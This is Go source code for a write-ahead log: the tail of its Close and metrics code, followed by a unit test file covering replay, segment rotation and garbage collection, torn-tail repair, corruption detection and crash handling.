	if l.failed == nil && l.active != nil {
		l.beginSealLocked()
		needSync := false
		switch l.opts.Fsync {
		case FsyncAlways:
			// Frames whose appenders are still in commit are flushed here;
			// the watermark advance releases those waiters with success.
			l.syncMu.Lock()
			needSync = l.syncUpTo > l.syncedLSN
			l.syncMu.Unlock()
		case FsyncInterval:
			needSync = l.dirty
		}
		if needSync {
			if serr := l.active.Sync(); serr != nil {
				err = serr
			} else {
				l.fsyncs.Add(1)
				l.advanceSynced(l.nextLSN - 1)
			}
		}
		if cerr := l.active.Close(); err == nil {
			err = cerr
		}
		l.endSeal()
	}
	l.closed = true
	stop := l.stop
	done := l.done
	l.mu.Unlock()
	if stop != nil {
		close(stop)
		<-done
	}
	return err
}

// SetRecoveryDuration records how long boot recovery took, exported as
// homeguard_wal_recovery_seconds.
func (l *Log) SetRecoveryDuration(d time.Duration) {
	l.recoverySecs.Store(math.Float64bits(d.Seconds()))
}

func (l *Log) register(reg *obs.Registry) {
	reg.RegisterCollector(func(e *obs.Emit) {
		e.Counter("homeguard_wal_appends_total", "WAL records appended.", float64(l.appends.Load()))
		e.Counter("homeguard_wal_fsyncs_total", "WAL fsync calls issued.", float64(l.fsyncs.Load()))
		e.Counter("homeguard_wal_bytes_total", "Bytes appended to the WAL (frames included).", float64(l.bytes.Load()))
		e.Counter("homeguard_wal_segments_removed_total", "WAL segments garbage-collected after checkpoints.", float64(l.segsRemoved.Load()))
		e.Gauge("homeguard_wal_segments", "Live WAL segment files.", float64(l.Segments()))
		e.Gauge("homeguard_wal_last_lsn", "LSN of the most recent WAL record.", float64(l.lastLSN.Load()))
		e.Gauge("homeguard_wal_recovery_seconds", "Duration of the last boot recovery (checkpoint load + replay).", math.Float64frombits(l.recoverySecs.Load()))
	})
}
