package wal

import (
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"testing"
)

func openTest(t *testing.T, dir string, opts Options) *Log {
	t.Helper()
	opts.Dir = dir
	if opts.Fsync == FsyncAlways {
		// Unit tests don't need real fsync latency.
		opts.Fsync = FsyncOff
	}
	l, err := Open(opts)
	if err != nil {
		t.Fatalf("Open: %v", err)
	}
	return l
}

func collect(t *testing.T, l *Log, after uint64) (lsns []uint64, kinds []byte, payloads []string) {
	t.Helper()
	err := l.Replay(after, func(lsn uint64, kind byte, payload []byte) error {
		lsns = append(lsns, lsn)
		kinds = append(kinds, kind)
		payloads = append(payloads, string(payload))
		return nil
	})
	if err != nil {
		t.Fatalf("Replay: %v", err)
	}
	return
}

func TestAppendReplayRoundTrip(t *testing.T) {
	dir := t.TempDir()
	l := openTest(t, dir, Options{})
	for i := 0; i < 100; i++ {
		lsn, err := l.Append(byte(1+i%4), []byte(fmt.Sprintf("op-%03d", i)))
		if err != nil {
			t.Fatalf("Append %d: %v", i, err)
		}
		if lsn != uint64(i+1) {
			t.Fatalf("Append %d: lsn %d, want %d", i, lsn, i+1)
		}
	}
	if got := l.LastLSN(); got != 100 {
		t.Fatalf("LastLSN = %d, want 100", got)
	}
	lsns, kinds, payloads := collect(t, l, 0)
	if len(lsns) != 100 {
		t.Fatalf("replayed %d records, want 100", len(lsns))
	}
	for i := range lsns {
		if lsns[i] != uint64(i+1) || kinds[i] != byte(1+i%4) || payloads[i] != fmt.Sprintf("op-%03d", i) {
			t.Fatalf("record %d = (%d,%d,%q)", i, lsns[i], kinds[i], payloads[i])
		}
	}
	// Replay above a watermark skips the prefix.
	lsns, _, _ = collect(t, l, 60)
	if len(lsns) != 40 || lsns[0] != 61 {
		t.Fatalf("Replay(60): %d records starting %d", len(lsns), lsns[0])
	}
	if err := l.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
}

func TestReopenContinuesLSNs(t *testing.T) {
	dir := t.TempDir()
	l := openTest(t, dir, Options{})
	for i := 0; i < 10; i++ {
		if _, err := l.Append(OpFleetInstall, []byte("a")); err != nil {
			t.Fatal(err)
		}
	}
	l.Close()

	l = openTest(t, dir, Options{})
	if got := l.LastLSN(); got != 10 {
		t.Fatalf("LastLSN after reopen = %d, want 10", got)
	}
	lsn, err := l.Append(OpFleetInstall, []byte("b"))
	if err != nil || lsn != 11 {
		t.Fatalf("Append after reopen: lsn=%d err=%v", lsn, err)
	}
	l.Close()

	// A third generation still sees one contiguous history.
	l = openTest(t, dir, Options{})
	lsns, _, payloads := collect(t, l, 0)
	if len(lsns) != 11 || payloads[10] != "b" {
		t.Fatalf("full replay after two reopens: %d records", len(lsns))
	}
	l.Close()
}

func TestSegmentRotationAndGC(t *testing.T) {
	dir := t.TempDir()
	l := openTest(t, dir, Options{SegmentBytes: 256})
	payload := make([]byte, 64)
	for i := 0; i < 40; i++ {
		if _, err := l.Append(OpAuditBatch, payload); err != nil {
			t.Fatal(err)
		}
	}
	if got := l.Segments(); got < 3 {
		t.Fatalf("Segments = %d, want >= 3 after forced rotation", got)
	}
	// Everything must still replay across the segment boundaries.
	lsns, _, _ := collect(t, l, 0)
	if len(lsns) != 40 {
		t.Fatalf("replayed %d, want 40", len(lsns))
	}

	// GC below LSN 30: only whole segments strictly below survive the axe.
	removed, err := l.TruncateBefore(30)
	if err != nil {
		t.Fatalf("TruncateBefore: %v", err)
	}
	if removed == 0 {
		t.Fatal("TruncateBefore removed nothing")
	}
	// Records >= 30 are all still there.
	lsns, _, _ = collect(t, l, 29)
	if len(lsns) != 11 || lsns[0] != 30 {
		t.Fatalf("post-GC Replay(29): %d records starting %v", len(lsns), lsns)
	}

	// The active segment is never removed, even if the keep LSN is
	// beyond everything.
	if _, err := l.TruncateBefore(1 << 40); err != nil {
		t.Fatalf("TruncateBefore(max): %v", err)
	}
	if got := l.Segments(); got != 1 {
		t.Fatalf("Segments after full GC = %d, want 1 (active)", got)
	}
	if _, err := l.Append(OpAuditBatch, payload); err != nil {
		t.Fatalf("Append after GC: %v", err)
	}
	l.Close()

	// Reopen after GC: the chain now starts mid-history.
	l = openTest(t, dir, Options{SegmentBytes: 256})
	lsns, _, _ = collect(t, l, 0)
	if len(lsns) == 0 || lsns[len(lsns)-1] != 41 {
		t.Fatalf("reopen after GC: last lsn %v", lsns)
	}
	l.Close()
}

func TestTornTailTruncated(t *testing.T) {
	dir := t.TempDir()
	l := openTest(t, dir, Options{})
	for i := 0; i < 5; i++ {
		if _, err := l.Append(OpFleetInstall, []byte("whole")); err != nil {
			t.Fatal(err)
		}
	}
	l.Close()

	// Tear the final record by chopping 3 bytes off the file.
	name := segFiles(t, dir)[0]
	path := filepath.Join(dir, name)
	st, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(path, st.Size()-3); err != nil {
		t.Fatal(err)
	}

	l = openTest(t, dir, Options{})
	if got := l.LastLSN(); got != 4 {
		t.Fatalf("LastLSN after torn tail = %d, want 4", got)
	}
	// The next append reuses the lost LSN.
	lsn, err := l.Append(OpFleetInstall, []byte("replacement"))
	if err != nil || lsn != 5 {
		t.Fatalf("Append after repair: lsn=%d err=%v", lsn, err)
	}
	_, _, payloads := collect(t, l, 0)
	if len(payloads) != 5 || payloads[4] != "replacement" {
		t.Fatalf("payloads after repair: %q", payloads)
	}
	l.Close()
}

func TestCorruptionMidLogRefused(t *testing.T) {
	dir := t.TempDir()
	l := openTest(t, dir, Options{SegmentBytes: 128})
	for i := 0; i < 20; i++ {
		if _, err := l.Append(OpFleetInstall, []byte("payloadpayload")); err != nil {
			t.Fatal(err)
		}
	}
	if l.Segments() < 2 {
		t.Fatal("need >= 2 segments for mid-log corruption")
	}
	l.Close()

	// Flip a payload byte in the FIRST (non-final) segment: that is not
	// a torn tail, it is corruption, and Open must refuse.
	name := segFiles(t, dir)[0]
	path := filepath.Join(dir, name)
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	b[headerSize+frameHead+recHead+2] ^= 0xFF
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Open(Options{Dir: dir, SegmentBytes: 128, Fsync: FsyncOff}); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("Open on corrupt mid-log = %v, want ErrCorrupt", err)
	}
}

func TestLSNGapRefused(t *testing.T) {
	dir := t.TempDir()
	l := openTest(t, dir, Options{SegmentBytes: 128})
	for i := 0; i < 20; i++ {
		if _, err := l.Append(OpFleetInstall, []byte("payloadpayload")); err != nil {
			t.Fatal(err)
		}
	}
	if l.Segments() < 3 {
		t.Fatal("need >= 3 segments")
	}
	l.Close()

	// Deleting a middle segment leaves a hole in the LSN chain.
	names := segFiles(t, dir)
	if err := os.Remove(filepath.Join(dir, names[1])); err != nil {
		t.Fatal(err)
	}
	if _, err := Open(Options{Dir: dir, SegmentBytes: 128, Fsync: FsyncOff}); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("Open with missing middle segment = %v, want ErrCorrupt", err)
	}
}

func TestAppendFailureLatches(t *testing.T) {
	dir := t.TempDir()
	fs := NewCrashFS(int64(headerSize+frameHead+recHead+4), 0)
	l, err := Open(Options{Dir: dir, Fsync: FsyncAlways, FS: fs})
	if err != nil {
		t.Fatalf("Open: %v", err)
	}
	if _, err := l.Append(OpFleetInstall, []byte("okay")); err != nil {
		t.Fatalf("first append: %v", err)
	}
	if _, err := l.Append(OpFleetInstall, []byte("doomed")); err == nil {
		t.Fatal("second append succeeded past the crash point")
	}
	// The log is wedged: nothing can be acknowledged anymore.
	if _, err := l.Append(OpFleetInstall, []byte("after")); !errors.Is(err, ErrCrashed) {
		t.Fatalf("post-crash append = %v, want ErrCrashed", err)
	}
	if l.Err() == nil {
		t.Fatal("Err() not latched")
	}
}

func TestParsePolicy(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want Policy
		ok   bool
	}{
		{"always", FsyncAlways, true},
		{"", FsyncAlways, true},
		{"interval", FsyncInterval, true},
		{"off", FsyncOff, true},
		{"sometimes", 0, false},
	} {
		got, err := ParsePolicy(tc.in)
		if tc.ok != (err == nil) || (tc.ok && got != tc.want) {
			t.Errorf("ParsePolicy(%q) = %v, %v", tc.in, got, err)
		}
	}
}

func TestFrameLayout(t *testing.T) {
	dir := t.TempDir()
	l := openTest(t, dir, Options{})
	if _, err := l.Append(7, []byte("xyz")); err != nil {
		t.Fatal(err)
	}
	l.Close()
	b, err := os.ReadFile(filepath.Join(dir, segFiles(t, dir)[0]))
	if err != nil {
		t.Fatal(err)
	}
	rec := b[headerSize:]
	if got := binary.LittleEndian.Uint32(rec[0:4]); got != uint32(recHead+3) {
		t.Fatalf("frame len = %d", got)
	}
	if got := binary.LittleEndian.Uint64(rec[8:16]); got != 1 {
		t.Fatalf("frame lsn = %d", got)
	}
	if rec[16] != 7 || string(rec[17:]) != "xyz" {
		t.Fatalf("frame kind/payload = %d %q", rec[16], rec[17:])
	}
}

func segFiles(t *testing.T, dir string) []string {
	t.Helper()
	names, err := OSFS{}.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	segs := segmentNames(names)
	if len(segs) == 0 {
		t.Fatal("no segments on disk")
	}
	return segs
}
